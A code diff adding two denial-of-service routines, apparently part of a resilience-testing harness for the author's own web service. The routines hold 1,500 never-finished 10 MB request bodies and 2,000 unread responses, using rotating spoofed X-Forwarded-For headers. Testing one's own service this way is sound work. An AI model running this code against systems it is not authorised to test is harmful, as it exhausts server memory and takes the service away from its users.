@@ -1,0 +1,47 @@
+import { type Attack, hold, tally } from '../attack.ts';
+
+const heardOf = (heads: { head: string[]; rest: string; reads: boolean }[]): Attack['run'] => {
+  return async (target, until) => {
+    const { count, words } = tally();
+    for (const { head, rest, reads } of heads) {
+      const socket = hold(target, head, rest, until).on('close', () => count('closed'));
+      if (reads) socket.on('data', (data) => count(String(data).slice(9, 12)));
+      else socket.pause();
+    }
+    await new Promise((over) => until.addEventListener('abort', over));
+    return `${heads.length} held: ${words()}`;
+  };
+};
+
+const from = (index: number) => `X-Forwarded-For: 198.51.100.${index % 4}`;
+
+export const unfinishedBodies: Attack = {
+  name: '1,500 bodies of 10 MB that are never finished',
+  against: 'bodies held in memory',
+  run: (target, until) => {
+    const head = (index: number) => [
+      'POST /rest/v1/rpc/import_guests HTTP/1.1',
+      'Content-Type: application/json',
+      'Content-Length: 10000000',
+      `Authorization: Bearer ${target.token}`,
+      from(index),
+    ];
+    const started = '['.padEnd(100_000, ' ');
+    const heads = Array.from({ length: 1500 }, (_, index) => ({ head: head(index), rest: started, reads: true }));
+    return heardOf(heads)(target, until);
+  },
+};
+
+export const slowReaders: Attack = {
+  name: '2,000 readers who do not read',
+  against: 'answers held in memory',
+  run: (target, until) => {
+    const paths = [`/rest/v1/rpc/get_event_guests?event_uuid=${target.ownEvent}`, `/seating-plan/${target.ownEvent}`];
+    const heads = Array.from({ length: 2000 }, (_, index) => ({
+      head: [`GET ${paths[index % 2]} HTTP/1.1`, from(index)],
+      rest: '',
+      reads: false,
+    }));
+    return heardOf(heads)(target, until);
+  },
+};
